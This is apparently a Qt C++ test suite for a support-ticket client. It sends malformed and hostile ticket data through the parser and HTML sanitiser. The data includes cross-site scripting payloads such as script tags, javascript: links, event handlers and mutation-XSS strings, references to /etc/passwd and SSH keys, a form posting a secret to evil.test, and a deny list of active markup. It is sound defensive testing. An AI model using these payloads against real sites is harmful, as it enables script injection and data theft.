// Hostile ticket payloads at the core level, mostly end to end through the
// client (network, thread-pool parsing, parser, sanitiser): whatever a
// server sends, nothing crashes, the readable rest of the ticket arrives,
// what could not be read is marked, and no HTML survives that could run,
// load or read anything. tst_ticketparser / tst_htmlsanitizer test the
// single rules; this suite throws whole hostile tickets.
#include "core/apiclient.h"
#include "core/htmlsanitizer.h"
#include "core/ticketparser.h"
#include "fuzz/fuzzchecks.h"
#include "support/clientfixture.h"
#include "support/fakeserver.h"
#include "support/replywait.h"
#include "support/sampledata.h"

#include <QElapsedTimer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QNetworkAccessManager>
#include <QSignalSpy>
#include <QTest>

using namespace CaseLens;
using namespace CaseLens::Testing;
using namespace Qt::StringLiterals;
using namespace std::chrono_literals;

namespace {

QByteArray envelope(const QJsonObject &data)
{
    return QJsonDocument(QJsonObject{{u"Response"_s, true}, {u"Data"_s, data}})
        .toJson(QJsonDocument::Compact);
}

// The sample ticket's bytes with one field's JSON text replaced (so values
// QJsonValue cannot hold, like 1e309, can be sent).
QByteArray withRawField(const QString &field, const QByteArray &json)
{
    QJsonObject data = sampleTicketData();
    data.insert(field, u"@@PLACEHOLDER@@"_s);
    QByteArray body = envelope(data);
    body.replace("\"@@PLACEHOLDER@@\"", json);
    return body;
}

// Empty when the fetch gave a ticket whose fields a person reads first are
// the sample's (they survive a hostile neighbour); otherwise what went wrong.
QString sampleProblem(const TicketResult &result)
{
    if (!result.ok())
        return u"no ticket: "_s + result.error.message() + u'\n' + result.error.detail();
    const Ticket &t = result.ticket;
    const QString email = sampleTicketData().value(u"AccountInfo").toObject().value(u"Email").toString();
    if (t.caseNumber != u"HYXTNJV" || t.priority != Priority::High || t.status != TicketStatus::Closed ||
        t.requester.email != email)
        return u"not the sample: %1, priority %2, status %3, %4"_s.arg(t.caseNumber)
            .arg(int(t.priority))
            .arg(int(t.status))
            .arg(t.requester.email);
    return {};
}

} // namespace

class TestHostilePayloads : public QObject, private ClientFixture
{
    Q_OBJECT

private:
    // Sends body as the server's answer and returns what the client makes of it.
    TicketResult fetchBody(const QByteArray &body, int status = 200, int waitMs = 60000)
    {
        FakeResponse answer;
        answer.status = status;
        answer.body = body;
        m_server->enqueue(answer);
        return fetchAndWait(*m_client, u"HYXTNJV"_s, waitMs);
    }

private Q_SLOTS:
    void init()
    {
        QVERIFY(startServerAndClient(u"sk_test_payloads"_s));
        m_client->setTimeout(60s);
    }

    void cleanup() { stopServerAndClient(); }

    // Qt keeps the last of duplicate keys: a duplicate never mixes two
    // tickets or two envelopes.
    void duplicateKeys()
    {
        const QByteArray body =
            R"({"Response":false,"Response":true,"Data":{"CaseNumber":"WRONG01","Subject":"first"},)"
            R"("Data":{"CaseNumber":"HYXTNJV","Subject":"one","Subject":"two","Priority":1,"Priority":3}})";
        const TicketResult result = fetchBody(body);
        QVERIFY2(result.ok(), qPrintable(result.error.message()));
        QCOMPARE(result.ticket.caseNumber, u"HYXTNJV"_s);
        QCOMPARE(result.ticket.subject, u"two"_s);
        QCOMPARE(result.ticket.priority, Priority::High);
        QCOMPARE(result.ticket.raw.object().size(), 3);
    }

    // Invalid UTF-8 makes the answer unreadable as a whole (a deliberate
    // parser rule, see tst_ticketparser): the person gets a clear error,
    // never a half-decoded ticket. With an error status, the status still
    // decides what the person is told.
    void invalidUtf8()
    {
        QByteArray body = sampleTicketResponseBytes();
        body.replace("Dana Whitfield", "Dana \xC0\xAF\xFF Whitfield");
        TicketResult result = fetchBody(body);
        QCOMPARE(result.error.kind(), ErrorKind::MalformedResponse);
        QVERIFY(result.error.message().contains(u"could not be read"_s));
        QVERIFY(result.ticket.raw.isEmpty());

        result = fetchBody(R"({"Response":false,"Code":401,"Message":"Invalid )" + QByteArray("\xFF\xFE") +
                               R"( token"})",
                           401);
        QCOMPARE(result.error.kind(), ErrorKind::Unauthorized);
        QCOMPARE(result.error.httpStatus(), 401);
    }

    void byteOrderMarks()
    {
        // A UTF-8 BOM before the JSON: read normally, end to end.
        TicketResult result = fetchBody("\xEF\xBB\xBF" + sampleTicketResponseBytes());
        QCOMPARE(sampleProblem(result), QString());

        // U+FEFF inside a value is data, kept as sent. (At the very start of
        // a string Qt's UTF-8 decoder takes it for a BOM and drops it.)
        QJsonObject data = sampleTicketData();
        data.insert(u"Subject"_s, u"Export\uFEFF fails"_s);
        result = fetchBody(envelope(data));
        QVERIFY(result.ok());
        QCOMPARE(result.ticket.subject, u"Export\uFEFF fails"_s);

        // A UTF-16 answer (with its BOM) is not mistaken for a ticket.
        const QString text = QString::fromUtf8(sampleTicketResponseBytes());
        QByteArray utf16("\xFF\xFE");
        utf16.append(reinterpret_cast<const char *>(text.utf16()), text.size() * 2);
        result = fetchBody(utf16);
        QCOMPARE(result.error.kind(), ErrorKind::MalformedResponse);
        QVERIFY(!result.error.message().isEmpty());
    }

    // \u0000 in JSON strings is legal: kept as data in the ticket, gone
    // from anything rendered or printed.
    void nulCharacters()
    {
        QJsonObject data = sampleTicketData();
        data.insert(u"Subject"_s, u"before\0after"_s);
        data.insert(u"Description"_s, u"<p>one\0<scr\0ipt>alert(1)</script>two</p>"_s);
        QJsonObject account = data.value(u"AccountInfo").toObject();
        account.insert(u"FullName"_s, u"Dana\0Whitfield"_s);
        data.insert(u"AccountInfo"_s, account);
        const TicketResult result = fetchBody(envelope(data));
        QVERIFY2(result.ok(), qPrintable(result.error.message()));
        QCOMPARE(result.ticket.subject.size(), 12);
        QCOMPARE(result.ticket.subject.at(6), QChar(u'\0'));
        QCOMPARE(result.ticket.requester.fullName, u"Dana\0Whitfield"_s);
        const QString html = Html::sanitize(result.ticket.descriptionHtml);
        QVERIFY2(!html.contains(QChar(u'\0')), qPrintable(html));
        QVERIFY2(!html.contains(u"script"_s, Qt::CaseInsensitive), qPrintable(html)); // NUL smuggling fails
        QVERIFY2(html.contains(u"two"_s), qPrintable(html));
        QVERIFY(!Html::toPlainText(result.ticket.descriptionHtml).contains(QChar(u'\0')));
    }

    // 10 MB in one string goes through the size cap, the thread-pool parse
    // and the sanitiser, in bounded time.
    void tenMegabyteString()
    {
        QJsonObject data = sampleTicketData();
        const QString huge = u"<p>"_s + QString(10 * 1024 * 1024, u'x') + u"</p>"_s;
        data.insert(u"Description"_s, huge);
        QElapsedTimer clock;
        clock.start();
        const TicketResult result = fetchBody(envelope(data));
        QCOMPARE(sampleProblem(result), QString());
        QCOMPARE(result.ticket.descriptionHtml.size(), huge.size());
        const QString html = Html::sanitize(result.ticket.descriptionHtml);
        QCOMPARE(html.size(), huge.size());
        QVERIFY2(clock.elapsed() < 60000, qPrintable(QString::number(clock.elapsed())));
    }

    void absurdNumbers_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QByteArray>("json");
        QTest::newRow("Views 1e309") << u"Views"_s << QByteArray("1e309");
        QTest::newRow("Views -1e309") << u"Views"_s << QByteArray("-1e309");
        QTest::newRow("Views -5") << u"Views"_s << QByteArray("-5");
        QTest::newRow("Completion 1e309") << u"Completion"_s << QByteArray("1E+309");
        QTest::newRow("Completion -5") << u"Completion"_s << QByteArray("-5");
        QTest::newRow("Priority 1e309") << u"Priority"_s << QByteArray("1e309");
        QTest::newRow("Priority -5") << u"Priority"_s << QByteArray("-5");
        QTest::newRow("Pin 1e309") << u"Pin"_s << QByteArray("1e309");
        QTest::newRow("Views 2^64") << u"Views"_s << QByteArray("18446744073709551616");
        QTest::newRow("Views 400 digits") << u"Views"_s << QByteArray(400, '9');
        QTest::newRow("Views 1e-400") << u"Views"_s << QByteArray("1e-400");
    }

    // An absurd number spoils its own field, not the ticket: the rest
    // arrives and the field is marked.
    void absurdNumbers()
    {
        QFETCH(QString, field);
        QFETCH(QByteArray, json);
        const TicketResult result = fetchBody(withRawField(field, json));
        QVERIFY2(result.ok(), qPrintable(result.error.message() + u'\n' + result.error.detail()));
        if (field != u"Priority")
            QCOMPARE(sampleProblem(result), QString());
        QCOMPARE(result.ticket.subject, sampleTicketData().value(u"Subject").toString());
        QVERIFY(result.ticket.views >= 0);
        QVERIFY(result.ticket.completion >= 0 && result.ticket.completion <= 100);
        QVERIFY2(result.ticket.hasWarningFor(field), qPrintable(field));
    }

    // Several absurd numbers in one answer: each field is marked.
    void manyAbsurdNumbers()
    {
        QJsonObject data = sampleTicketData();
        QJsonObject account = data.value(u"AccountInfo").toObject();
        account.insert(u"GeoLat"_s, u"@@LAT@@"_s);
        account.insert(u"GeoLon"_s, u"@@LON@@"_s);
        data.insert(u"AccountInfo"_s, account);
        data.insert(u"Views"_s, u"@@VIEWS@@"_s);
        data.insert(u"Completion"_s, u"@@COMPLETION@@"_s);
        QByteArray body = envelope(data);
        body.replace("\"@@LAT@@\"", "1e309").replace("\"@@LON@@\"", "-1e309");
        body.replace("\"@@VIEWS@@\"", "1e400").replace("\"@@COMPLETION@@\"", "-5");
        const TicketResult result = fetchBody(body);
        QCOMPARE(sampleProblem(result), QString());
        for (const QString &field :
             {u"AccountInfo.GeoLat"_s, u"AccountInfo.GeoLon"_s, u"Views"_s, u"Completion"_s})
            QVERIFY2(result.ticket.hasWarningFor(field), qPrintable(field));
        QVERIFY(!result.ticket.requester.geoLat);
        QVERIFY(!result.ticket.requester.geoLon);
        QCOMPARE(result.ticket.completion, 0);
    }

    void datesInOtherShapes_data()
    {
        QTest::addColumn<QByteArray>("json");
        QTest::addColumn<QDateTime>("expected"); // invalid: unreadable, marked
        const auto utc = [](int y, int mo, int d, int h, int mi) {
            return QDateTime(QDate(y, mo, d), QTime(h, mi), Qt::UTC);
        };
        QTest::newRow("+14:00") << QByteArray(R"("2025-01-27T00:00:00+14:00")") << utc(2025, 1, 26, 10, 0);
        QTest::newRow("-12:00 with ms")
            << QByteArray(R"("2025-01-25T22:00:00.000-12:00")") << utc(2025, 1, 26, 10, 0);
        QTest::newRow("+0530 without colon")
            << QByteArray(R"("2025-01-26T15:30:00+0530")") << utc(2025, 1, 26, 10, 0);
        QTest::newRow("RFC 2822") << QByteArray(R"("Sun, 26 Jan 2025 10:00:00 GMT")") << QDateTime();
        QTest::newRow("European") << QByteArray(R"("26/01/2025 10:00")") << QDateTime();
        QTest::newRow("US") << QByteArray(R"("01/26/2025")") << QDateTime();
        QTest::newRow("zone name") << QByteArray(R"("2025-01-26T10:00:00 Europe/Berlin")") << QDateTime();
        QTest::newRow("epoch ms as number") << QByteArray("1737885600000") << QDateTime();
        QTest::newRow("year 0") << QByteArray(R"("0000-01-01T00:00:00.000Z")") << QDateTime();
        QTest::newRow("year 9999") << QByteArray(R"("9999-12-31T23:59:59.999Z")")
                                   << QDateTime(QDate(9999, 12, 31), QTime(23, 59, 59, 999), Qt::UTC);
        QTest::newRow("JS max date") << QByteArray(R"("+275760-09-13T00:00:00.000Z")") << QDateTime();
        QTest::newRow("object") << QByteArray(R"({"$date":"2025-01-26T10:00:00Z"})") << QDateTime();
        QTest::newRow("10,000 characters")
            << "\"2025-01-26T10:00:00" + QByteArray(10000, '0') + "Z\"" << QDateTime();
    }

    void datesInOtherShapes()
    {
        QFETCH(QByteArray, json);
        QFETCH(QDateTime, expected);
        const TicketResult result = fetchBody(withRawField(u"Date"_s, json));
        QCOMPARE(sampleProblem(result), QString());
        QCOMPARE(result.ticket.created.isValid(), expected.isValid());
        QCOMPARE(result.ticket.hasWarningFor(u"Date"_s), !expected.isValid());
        if (expected.isValid()) {
            QCOMPARE(result.ticket.created, expected);
            QCOMPARE(result.ticket.created.timeSpec(), Qt::UTC);
        } else {
            for (const ParseWarning &w : result.ticket.warnings)
                QVERIFY2(w.message.size() < 200, qPrintable(w.message)); // the value is shown shortened
        }
    }

    void hundredThousandNotes()
    {
        QJsonObject data = sampleTicketData();
        data.insert(u"Notes"_s, numberedNotes(100'000, u"<p>Note %1</p>"_s));
        QElapsedTimer clock;
        clock.start();
        const TicketResult result = fetchBody(envelope(data));
        QCOMPARE(sampleProblem(result), QString());
        QCOMPARE(result.ticket.notes.size(), 100'000);
        QCOMPARE(result.ticket.notes.last().id, u"99999"_s);
        QVERIFY(result.ticket.notes.last().date.isValid());
        QVERIFY(result.ticket.warnings.isEmpty());
        QVERIFY2(clock.elapsed() < 60000, qPrintable(QString::number(clock.elapsed())));
    }

    // Arrays where objects belong and the reverse, everywhere at once.
    void wrongShapesEverywhere()
    {
        QJsonObject data = sampleTicketData();
        data.insert(u"AccountInfo"_s, QJsonArray{QJsonObject{{u"FullName"_s, u"x"_s}}});
        data.insert(u"Notes"_s, QJsonObject{{u"Id"_s, 1}, {u"Note"_s, u"not in a list"_s}});
        data.insert(u"Statistics"_s, u"none"_s);
        data.insert(u"NotifyUsers"_s, QJsonObject{{u"a"_s, u"ops@example.com"_s}});
        data.insert(u"Files"_s, QJsonObject{{u"Name"_s, u"log.txt"_s}});
        data.insert(u"Collaborators"_s, 42);
        data.insert(u"Survey"_s, QJsonArray{1, 2, 3});
        data.insert(u"GitHubIssue"_s, QJsonArray{});
        data.insert(u"Subject"_s, QJsonArray{u"Export"_s, u"fails"_s});
        data.insert(u"Description"_s, QJsonObject{{u"html"_s, u"<p>x</p>"_s}});
        const TicketResult result = fetchBody(envelope(data));
        QVERIFY2(result.ok(), qPrintable(result.error.message()));
        const Ticket &t = result.ticket;
        QCOMPARE(t.caseNumber, u"HYXTNJV"_s);
        QCOMPARE(t.priority, Priority::High);
        QVERIFY(t.created.isValid());
        QVERIFY(t.subject.isEmpty());
        QVERIFY(t.requester.fullName.isEmpty());
        QVERIFY(t.notes.isEmpty());
        for (const QString &field :
             {u"AccountInfo"_s, u"Notes"_s, u"Statistics"_s, u"NotifyUsers"_s, u"Files"_s, u"Collaborators"_s,
              u"Survey"_s, u"GitHubIssue"_s, u"Subject"_s, u"Description"_s})
            QVERIFY2(t.hasWarningFor(field), qPrintable(field));
        QCOMPARE(t.files.size(), 1); // the lone object is kept, as a one-entry list
        QVERIFY(t.survey.isArray()); // undocumented shapes are kept as they came
        QCOMPARE(t.raw.object(), data);
    }

    // Bidirectional controls are data: kept exactly, for the views to isolate.
    void bidiControlsKeptAsData()
    {
        const QString name = u"\u202Egnp.exe\u202C Whitfield \u2066x\u2069 \u200F"_s;
        QJsonObject data = sampleTicketData();
        QJsonObject account = data.value(u"AccountInfo").toObject();
        account.insert(u"FullName"_s, name);
        data.insert(u"AccountInfo"_s, account);
        data.insert(u"ClosedBy"_s, name);
        data.insert(u"Description"_s, QString(u"<p>"_s + name + u"</p>"_s));
        const TicketResult result = fetchBody(envelope(data));
        QVERIFY2(result.ok(), qPrintable(result.error.message()));
        QCOMPARE(result.ticket.requester.fullName, name);
        QCOMPARE(result.ticket.closedBy, name);
        QVERIFY(Html::sanitize(result.ticket.descriptionHtml).contains(name));
        QCOMPARE(Html::toPlainText(result.ticket.descriptionHtml), name.trimmed());
    }

    void twentyThousandCharacterSubject()
    {
        QJsonObject data = sampleTicketData();
        const QString subject = u"Export fails "_s.repeated(1539).left(20'000);
        QCOMPARE(subject.size(), 20'000);
        data.insert(u"Subject"_s, subject);
        const TicketResult result = fetchBody(envelope(data));
        QCOMPARE(sampleProblem(result), QString());
        QCOMPARE(result.ticket.subject, subject); // shortening is the view's job
    }

    void hostileHtml_data()
    {
        QTest::addColumn<QString>("html");
        QTest::addColumn<QStringList>("forbidden"); // case-insensitive, in the sanitised HTML
        QTest::addColumn<QString>("readable");      // must survive, in HTML and in plain text

        const QStringList active = {
            u"<script"_s, u"alert"_s,   u"<style"_s, u"<iframe"_s,     u"<object"_s,     u"<embed"_s,
            u"<img"_s,    u"<svg"_s,    u"<link"_s,  u"<meta"_s,       u"<base"_s,       u"<form"_s,
            u"src="_s,    u"style="_s,  u"url("_s,   u"javascript:"_s, u"vbscript:"_s,   u"data:"_s,
            u"file:"_s,   u"onerror"_s, u"onload"_s, u"onclick"_s,     u"onmouseover"_s, u"onfocus"_s,
            u"tracker"_s, u"evil"_s};
        QTest::newRow("script everywhere")
            << u"<p>Step one<script>alert(1)</script> done</p><SCRIPT type=module>import "
               u"'https://evil.test/x'</SCRIPT>"
               u"<script/src=https://evil.test/y.js></script><script>/*</script><script>*/alert(2)</script>"_s
            << active << u"Step one done"_s;
        QTest::newRow("style and CSS url()")
            << u"<style>@import url(https://evil.test/a.css);p{background:url(file:///etc/passwd)}</style>"
               u"<p "
               u"style=\"background-image:url('https://tracker.test/p.gif');behavior:url(x.htc)\">Readable "
               u"text</p><div style=width:expression(alert(1))>more</div>"_s
            << active << u"Readable text"_s;
        QTest::newRow("iframe object embed")
            << u"<iframe src=https://evil.test/ srcdoc=\"<script>alert(1)</script>\">fallback</iframe>"
               u"<object data=file:///etc/passwd type=text/plain>inner</object><embed "
               u"src=https://evil.test/x.swf>"
               u"<p>Readable text</p>"_s
            << active << u"Readable text"_s;
        QTest::newRow("event attributes")
            << u"<p onclick=alert(1) ONMOUSEOVER=\"alert(2)\" onfocus='alert(3)' tabindex=0>Readable text</p>"
               u"<body onload=alert(4)><details open ontoggle=alert(5)>x</details><a "
               u"href=https://ok.example/ "
               u"onclick=alert(6)>link</a>"_s
            << active << u"Readable text"_s;
        QTest::newRow("dangerous link targets")
            << u"<a href=\"javascript:alert(1)\">one</a> <a href=\"JaVaScRiPt&colon;alert(2)\">two</a> "
               u"<a href=\"&#x6A;avascript:alert(3)\">three</a> <a "
               u"href=\"data:text/html,<script>alert(4)</script>\">"
               u"four</a> <a href=\"file:///etc/passwd\">five</a> <a href=\"vbscript:msgbox\">six</a> "
               u"<a href=\"  java\nscript:alert(7)\">seven</a>"_s
            << active << u"one two three four five six seven"_s;
        QTest::newRow("remote and local images")
            << u"<p>Readable<img src=https://tracker.test/pixel.gif width=1 height=1>"
               u"<img src=\"file:///home/user/.ssh/id_rsa\"><img src=data:image/png;base64,iVBORw0KGgo=>"
               u"<img srcset=\"https://tracker.test/a.png 1x\"> text</p>"
               u"<table background=https://tracker.test/bg.gif><tr><td "
               u"background=file:///x>cell</td></tr></table>"
               u"<svg><image href=https://tracker.test/s.png /></svg><video "
               u"poster=https://tracker.test/v.png>"
               u"</video>"_s
            << active << u"Readable text"_s;
        QTest::newRow("forms, meta, base, link")
            << u"<meta http-equiv=refresh content=\"0;url=https://evil.test/\"><base href=https://evil.test/>"
               u"<link rel=stylesheet href=https://evil.test/x.css><form action=https://evil.test/>"
               u"<input name=key value=secret><button formaction=javascript:alert(1)>Readable text</button></form>"_s
            << active << u"Readable text"_s;
        QTest::newRow("mutation XSS")
            << u"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"
               u"<math><mtext><table><mglyph><style><img src=x onerror=alert(2)></math>"
               u"<svg></p><style><a id=\"</style><img src=1 onerror=alert(3)>\"></svg><p>Readable text</p>"_s
            << active << u"Readable text"_s;
    }

    // Each hostile description and note goes through the client; what the
    // viewer would show keeps only harmless markup and the readable text.
    void hostileHtml()
    {
        QFETCH(QString, html);
        QFETCH(QStringList, forbidden);
        QFETCH(QString, readable);
        QJsonObject data = sampleTicketData();
        data.insert(u"Description"_s, html);
        data.insert(u"Notes"_s, QJsonArray{QJsonObject{{u"Id"_s, 1}, {u"Note"_s, html}}});
        const TicketResult result = fetchBody(envelope(data));
        QVERIFY2(result.ok(), qPrintable(result.error.message()));
        QCOMPARE(result.ticket.descriptionHtml, html); // the data stays as sent
        for (const QString &source : {result.ticket.descriptionHtml, result.ticket.notes.value(0).html}) {
            const QString safe = Html::sanitize(source);
            for (const QString &word : std::as_const(forbidden))
                QVERIFY2(!safe.contains(word, Qt::CaseInsensitive),
                         qPrintable(u"\"%1\" survived: %2"_s.arg(word, safe)));
            // Well-formed, allowlisted, links only http(s)/mailto even for QUrl.
            const QString problem = Fuzz::checkHtmlSanitizer(source.toUtf8());
            QVERIFY2(problem.isEmpty(), qPrintable(problem));
            const QString plain = Html::toPlainText(source);
            QVERIFY2(plain.simplified().contains(readable), qPrintable(plain));
            QVERIFY2(Html::toPlainText(safe).simplified().contains(readable), qPrintable(safe));
            QVERIFY2(!plain.contains(u"alert("_s), qPrintable(plain)); // script text is not shown as text
        }
    }

    // The good link in the same soup survives, as a link.
    void safeLinksSurviveInHostileCompany()
    {
        const QString html =
            u"<p onclick=alert(1)>See <a href=\"https://help.sweeppea.com/exports?a=1&amp;b=2\" "
            u"style=x onmouseover=alert(2)>the guide</a> or <a href=mailto:help@example.com>mail"
            u"</a><script>alert(3)</script></p>"_s;
        const QString safe = Html::sanitize(html);
        QVERIFY2(safe.contains(u"<a href=\"https://help.sweeppea.com/exports?a=1&amp;b=2\">the guide</a>"_s),
                 qPrintable(safe));
        QVERIFY2(safe.contains(u"<a href=\"mailto:help@example.com\">mail</a>"_s), qPrintable(safe));
        QVERIFY(!safe.contains(u"alert"_s));
    }
};

QTEST_GUILESS_MAIN(TestHostilePayloads)
#include "tst_hostilepayloads.moc"
